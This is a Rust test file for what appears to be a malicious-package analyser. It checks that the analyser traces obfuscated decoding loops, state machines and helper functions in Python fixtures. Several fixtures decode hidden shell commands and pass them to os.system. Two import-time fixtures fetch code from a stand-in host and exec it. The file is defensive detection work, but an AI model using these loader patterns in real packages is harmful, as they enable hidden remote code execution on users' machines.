//! Loops that do something outside themselves: what they decode is followed to its end, and rounds that show nothing new
//! are left out.

mod common;

use common::{analysis_of, calls, event};
use venin_model::{Role, Trigger};

/// `echo a`, then enough of a tail that a few rounds do not reach its end, each character one higher.
fn shifted() -> (String, String) {
    let plain = format!("echo a {}", "b".repeat(150));
    let codes = plain.chars().map(|c| (u32::from(c) + 1).to_string()).collect::<Vec<_>>().join(", ");
    (plain, format!("import os, time, collections\ndata = [{codes}]\n"))
}

#[test]
fn a_loop_that_decodes_is_followed_to_its_end_though_it_does_something_else_too() {
    let (plain, data) = shifted();
    for decode in [
        "out = ''\nfor c in data:\n    print('.')\n    out += chr(c - 1)",
        "out = ''\nfor c in data:\n    time.sleep(0)\n    out = out + chr(c - 1)",
        "out = ''\nfor c in reversed(data):\n    time.sleep(0)\n    out = chr(c - 1) + out",
        "out = b''\nfor c in data:\n    print('.')\n    out = b'%s%c' % (out, c - 1)\nout = out.decode()",
        "kept = []\nfor c in data:\n    time.sleep(0)\n    kept.append(chr(c - 1))\nout = ''.join(kept)",
        "kept = bytearray()\nfor c in data:\n    print(c)\n    kept.append(c - 1)\nout = kept.decode()",
        "kept = bytearray(len(data))\nfor i, c in enumerate(data):\n    print(i)\n    kept[i] = c - 1\nout = kept.decode()",
        "kept = {}\nfor i, c in enumerate(data):\n    print(i)\n    kept[i] = chr(c - 1)\nout = ''.join(kept.values())",
        "kept = []\ndef put(c):\n    print(c)\n    kept.append(chr(c - 1))\nfor c in data:\n    put(c)\nout = ''.join(kept)",
        "def one(c):\n    print(c)\n    return chr(c - 1)\nout = ''\nfor c in data:\n    out += one(c)",
        "out = ''\nfor c in data:\n    if os.isatty(1):\n        print('.')\n    out += chr(c - 1)",
        "out, i = '', 0\nwhile i < len(data):\n    out += chr(data[i] - 1)\n    i += 1\n    print(i)",
        "out, left = '', collections.deque(data)\nwhile left:\n    out += chr(left.popleft() - 1)\n    print('.')",
        "def each():\n    for c in data:\n        print('.')\n        yield chr(c - 1)\nout = ''.join(each())",
        "def one(c):\n    print('.')\n    return chr(c - 1)\nout = ''.join(map(one, data))",
        "out = ''.join([(print('.'), chr(c - 1))[1] for c in data])",
        "out = ''\nfor part in (data[:80], data[80:]):\n    for c in part:\n        print('.')\n        out += chr(c - 1)",
    ] {
        let command = event(&format!("{data}{decode}\nos.system(out)\n"), "os.system");
        assert_eq!(command.text(Role::Command), Some(&*plain), "{decode}");
    }
}

#[test]
fn a_machine_of_states_is_followed_from_one_act_to_the_next() {
    let by_tests = "import os, urllib.request\ns = 0\nwhile s != 9:\n    if s == 0:\n        u = 'http://one.example/a'\n        s = 4\n    elif s == 4:\n        r = urllib.request.urlopen(u)\n        s = 2\n    elif s == 2:\n        s = 7\n    elif s == 7:\n        t = r.read()\n        s = 5\n    elif s == 5:\n        print('x')\n        s = 8\n    elif s == 8:\n        exec(t)\n        s = 9\n";
    let by_cases = "import os, urllib.request\ns = 0\nwhile s != 9:\n    match s:\n        case 0:\n            u = 'http://one.example/a'\n            s = 4\n        case 4:\n            r = urllib.request.urlopen(u)\n            s = 7\n        case 7:\n            t = r.read()\n            s = 8\n        case 8:\n            exec(t)\n            s = 9\n";
    for source in [by_tests, by_cases] {
        let analysis = analysis_of(&[("pkg/__init__.py", source, Trigger::Import)]);
        let run = analysis.events.iter().find(|e| &*e.name == "exec" && e.trigger == Trigger::Import);
        let asked = analysis.events.iter().find(|e| e.name.contains("urlopen")).expect("it is found");
        assert!(run.expect("it runs").input.comes_from(asked.id), "{source}");
    }
}

#[test]
fn rounds_that_repeat_themselves_are_left_out() {
    let words = |n: usize| (0..n).map(|i| format!("'w{i}'")).collect::<Vec<_>>().join(", ");
    let steps = |n: usize| {
        let loops =
            "for word in words:\n    word = word.strip()\n    if word in row:\n        found.append(word)\n";
        let source = format!("import sys\nrow = sys.argv[1]\nfound = []\nwords = [{}]\n{loops}", words(n));
        analysis_of(&[("pkg/__init__.py", &source, Trigger::Import)]).steps
    };
    // Only the list itself is longer.
    assert!(steps(1000) - steps(500) < 600, "{} {}", steps(500), steps(1000));
}

#[test]
fn the_last_of_the_addresses_that_a_loop_goes_over_is_seen() {
    let sites = (0..20).map(|i| format!("'http://s{i}.example/'")).collect::<Vec<_>>().join(", ");
    let source = format!("import requests\nfor site in [{sites}]:\n    requests.get(site)\n");
    assert_eq!(calls(&source).iter().filter(|name| *name == "requests.get").count(), 1);
    let asked = event(&source, "requests.get");
    assert!(asked.arguments.iter().any(|a| a.value.as_ref().is_some_and(|v| v.text.contains("s19.example"))));
}

#[test]
fn a_helper_decodes_each_text_of_a_program_however_many_there_are() {
    let encoded =
        |n: usize| -> String { format!("echo {n}").bytes().map(|b| format!("{:02x}", b ^ 1)).collect() };
    for (helper, count) in [
        ("def d(t):\n    return ''.join(chr(b ^ 1) for b in bytes.fromhex(t))", 60),
        ("def d(t):\n    raw = binascii.unhexlify(t)\n    return bytes(b ^ 1 for b in raw).decode()", 60),
    ] {
        let texts: String = (0..count).map(|n| format!("    x{n} = d('{}')\n", encoded(n))).collect();
        let source =
            format!("import binascii, os\n{helper}\ndef go():\n{texts}    os.system(x{})\n", count - 1);
        for (start, trigger) in [("go()\n", Trigger::Import), ("", Trigger::Run)] {
            let source = format!("{source}{start}");
            let events = analysis_of(&[("pkg/__init__.py", &source, Trigger::Import)]).events;
            let ran = events.iter().find(|event| &*event.name == "os.system");
            let command = ran.and_then(|event| event.text(Role::Command));
            assert_eq!(command, Some(format!("echo {}", count - 1).as_str()), "{helper} at {trigger}");
        }
    }
}
